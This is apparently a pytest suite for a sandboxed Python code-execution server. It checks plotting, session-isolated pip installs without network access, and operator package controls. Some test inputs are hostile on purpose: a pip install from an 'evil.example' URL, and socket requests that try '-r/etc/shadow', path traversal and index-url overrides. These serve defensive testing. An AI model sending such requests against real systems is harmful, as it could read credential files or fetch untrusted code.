"""The kernel environment: the data stack, plots as images, `pip install` without the network, another
environment chosen by the operator. Real servers, real kernels, the host's real package index."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import time

import pytest
import requests

from codeact_sdk.sandbox import SandboxClient
from sandbox_server import kernel_env

from .conftest import operator_venv, start_sandbox

PNG = b"\x89PNG\r\n\x1a\n"
SMALL_WHEEL = "tabulate"  # small, pure Python, not in the kernel environment


def test_kernels_have_the_data_stack_and_point_at_their_own_environment(sandbox):
    session = sandbox.create()
    stack = sandbox.execute(session, "import numpy, pandas, scipy, sympy, matplotlib, PIL, sklearn, requests\n"
                                     "print(sum(sympy.prime(n) for n in range(1, 51)))")  # the demo's task
    assert stack["status"] == "ok" and stack["stdout"] == "5117\n", stack
    where = sandbox.execute(session, "import json, os, shutil, sys\n"
                                     "print(json.dumps([sys.executable, shutil.which('pip'), shutil.which('python'), "
                                     "os.environ['PATH'], os.environ['HOME']]))")
    executable, pip, python, path, home = json.loads(where["stdout"])
    environment = kernel_env.inspect()
    assert executable == environment.python == sys.executable  # the venv's interpreter, not what it links to
    assert pip == os.path.join(environment.bin_dir, "pip") and python == os.path.join(environment.bin_dir, "python")
    assert ".pyenv" not in path and path.split(":")[1] == environment.bin_dir, path
    assert home != json.loads(sandbox.request("GET", f"/v1/sessions/{session}").text)["workdir"]
    sandbox.close(session)


FIGURE = "import matplotlib.pyplot as plt\nplt.plot([1, 4, 9])\nplt.show()"


def test_plt_show_and_a_figure_value_are_png_images_on_every_route(sandbox):
    session = sandbox.create()
    # HTTP
    shown = sandbox.execute(session, FIGURE)
    assert [base64.b64decode(item["data"]["image/png"])[:8] for item in shown["results"]] == [PNG], shown
    valued = sandbox.execute(session, "fig, ax = plt.subplots()\nax.bar([1, 2], [3, 4])\nplt.close(fig)\nfig")
    assert any("image/png" in item["data"] for item in valued["results"]), valued
    # Websocket, through the SDK's client: Execution.images has the bytes, the model's text a placeholder.
    client = SandboxClient(sandbox.url, sandbox.token)
    execution = client.execute(session, FIGURE)
    assert len(execution.images) == 1 and execution.images[0][:8] == PNG
    assert "[image: image/png" in execution.text and "iVBOR" not in execution.text
    client.close()
    sandbox.close(session)
    # The original /execute route: the seed's markdown image.
    answer = requests.post(sandbox.url + "/execute", data=json.dumps({"convid": "plots", "code": FIGURE}),
                           timeout=60).json()
    assert "![image](data:image/png;base64,iVBOR" in answer["result"], answer


def install(sandbox, session: str, command: str, timeout: float = 120) -> dict:
    return sandbox.execute(session, command, timeout=timeout)


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    """Skip unless this host's pip, as configured, can fetch the small wheel: asked on the host, so that what
    the code under test does can never turn a failure into a skip."""
    done = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--only-binary=:all:", "--quiet",
                           "--dest", str(tmp_path_factory.mktemp("index")), SMALL_WHEEL],
                          capture_output=True, text=True, timeout=120)
    if done.returncode != 0:
        pytest.skip(f"the configured package index is unreachable from this host: {done.stderr[-300:]}")


@pytest.mark.parametrize("command", [f"%pip install {SMALL_WHEEL}", f"!pip install -q {SMALL_WHEEL}",
                                     f"!python -m pip install {SMALL_WHEEL}"])
def test_pip_install_in_a_session_is_for_that_session_only_and_opens_no_network(sandbox, index, command):
    session, other = sandbox.create(), sandbox.create()
    installed = install(sandbox, session, command)
    assert installed["status"] == "ok" and "ERROR" not in installed["stdout"], installed
    used = sandbox.execute(session, f"import {SMALL_WHEEL}, os\nprint({SMALL_WHEEL}.tabulate([[1, 2]]))\n"
                                    f"print({SMALL_WHEEL}.__file__.startswith(os.environ['HOME']))")
    assert used["status"] == "ok" and used["stdout"].endswith("True\n"), used
    # A subprocess of the kernel sees it too; another session does not.
    assert sandbox.execute(session, f"!python -c 'import {SMALL_WHEEL}'")["stdout"] == ""
    absent = sandbox.execute(other, f"import {SMALL_WHEEL}")
    assert absent["status"] == "error" and absent["error"]["name"] == "ModuleNotFoundError", absent
    # The install gave the kernel no network: no route out, no name resolution.
    probe = sandbox.execute(session, "import socket\nfor target in [('1.1.1.1', 443), ('pypi.org', 443)]:\n"
                                     "    try:\n        socket.create_connection(target, timeout=3)\n"
                                     "        print('connected', target)\n"
                                     "    except OSError as error:\n        print('refused')")
    assert probe["stdout"] == "refused\nrefused\n", probe
    sandbox.close(session)
    sandbox.close(other)


def test_an_install_that_cannot_succeed_fails_in_seconds_with_a_clear_message(sandbox, index):
    session = sandbox.create()
    started = time.monotonic()
    missing = install(sandbox, session, "!pip install codeact-no-such-package-zzz")
    took = time.monotonic() - started
    assert "No matching distribution found for codeact-no-such-package-zzz" in missing["stdout"], missing
    assert took < 20, took
    # A URL is pip's to fetch, in a kernel with no network: it fails at once, no retries.
    for command, expected in [("!pip install 'x @ https://evil.example/x-1.0-py3-none-any.whl'", "Failed to connect"),
                              ("%pip install numpy", "Requirement already satisfied: numpy")]:
        started = time.monotonic()
        result = install(sandbox, session, command, timeout=30)
        assert expected in result["stdout"] + result["stderr"] and time.monotonic() - started < 10, result
    sandbox.close(session)


HOSTILE_REQUESTS = """
import json, os, socket
def ask(payload):
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(30)
    connection.connect(os.environ['CODEACT_PIP_SOCKET'])
    connection.sendall(payload)
    answer = b''
    while not answer.endswith(b'\\n'):
        chunk = connection.recv(65536)
        if not chunk:
            break
        answer += chunk
    return answer.decode().strip()
for requirement in ['--index-url=http://127.0.0.1:1/', '-r/etc/shadow', 'x @ http://evil.example/x.whl',
                    '../../etc', 'tabulate; os_name=="posix"', 'a' * 300]:
    print(json.loads(ask(json.dumps({'requirements': [requirement]}).encode() + b'\\n'))['ok'])
print(ask(b'x' * 200000))
print(ask(b'{"requirements": "tabulate"}\\n'))
"""


def test_the_install_socket_refuses_anything_but_package_names_and_other_sessions(sandbox):
    session, other = sandbox.create(), sandbox.create()
    refused = sandbox.execute(session, HOSTILE_REQUESTS, timeout=60)
    assert refused["status"] == "ok", refused
    lines = refused["stdout"].splitlines()
    assert lines[:6] == ["False"] * 6, refused
    assert all('"ok": false' in line for line in lines[6:8]), refused
    # Another session's kernel (another uid) cannot connect to this session's socket.
    path = sandbox.execute(session, "import os; print(os.environ['CODEACT_PIP_SOCKET'])")["stdout"].strip()
    stolen = sandbox.execute(other, f"import socket\ntry:\n    socket.socket(socket.AF_UNIX).connect({path!r})\n"
                                    "    print('connected')\n"
                                    "except OSError as error:\n    print(type(error).__name__)")
    assert stolen["stdout"] in ("PermissionError\n", "FileNotFoundError\n"), stolen
    assert sandbox.request("GET", "/health").status_code == 200
    sandbox.close(session)
    sandbox.close(other)


def test_operators_can_turn_installs_off_or_allow_a_list(tmp_path, index):
    allowing = start_sandbox(str(tmp_path / "allow"), "--package-allowlist", f"{SMALL_WHEEL},six")
    try:
        session = allowing.create()
        refused = install(allowing, session, "!pip install toolz")
        assert "toolz is not on this sandbox's list of installable packages (six, tabulate)" in refused["stdout"]
        allowed = install(allowing, session, f"!pip install {SMALL_WHEEL}")
        assert f"Successfully installed {SMALL_WHEEL}" in allowed["stdout"], allowed
    finally:
        allowing.stop()
    closed = start_sandbox(str(tmp_path / "off"), "--no-package-installs")
    try:
        result = install(closed, closed.create(), f"%pip install {SMALL_WHEEL}")
        assert "package installs are turned off on this sandbox server" in result["stdout"], result
    finally:
        closed.stop()


def test_operators_can_run_kernels_in_an_environment_of_their_own(tmp_path):
    """A venv of the operator's with a package of theirs; it reaches ipykernel through a .pth file here (a real
    deployment would pip install 'codeact[kernel]' into it)."""
    venv = tmp_path / "company-venv"
    python, site = operator_venv(venv)
    (site / "company_tools.py").write_text("def greet():\n    return 'hello from the company venv'\n")
    server = start_sandbox(str(tmp_path / "root"), "--kernel-python", python)
    try:
        assert any(f"kernel environment: {python}" in line for line in server.log), server.log[-5:]
        session = server.create()
        result = server.execute(session, "import sys, os, company_tools\n"
                                         "print(sys.executable, os.environ['PATH'].split(':')[1], "
                                         "company_tools.greet())")
        assert result["stdout"] == f"{python} {venv / 'bin'} hello from the company venv\n", result
    finally:
        server.stop()


def test_a_kernel_python_without_ipykernel_is_refused_at_start_up(tmp_path):
    venv = tmp_path / "bare"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=60)
    with pytest.raises(ValueError, match="ipykernel is not installed there"):
        kernel_env.inspect(str(venv / "bin" / "python"))
    with pytest.raises(ValueError, match="not an executable file"):
        kernel_env.inspect(str(tmp_path / "missing" / "python"))
    done = subprocess.run([sys.executable, "-m", "sandbox_server", "--port", "0", "--kernel-python",
                           str(venv / "bin" / "python")], capture_output=True, text=True, timeout=60)
    assert done.returncode != 0 and "ipykernel is not installed there" in done.stderr, done.stderr[-500:]
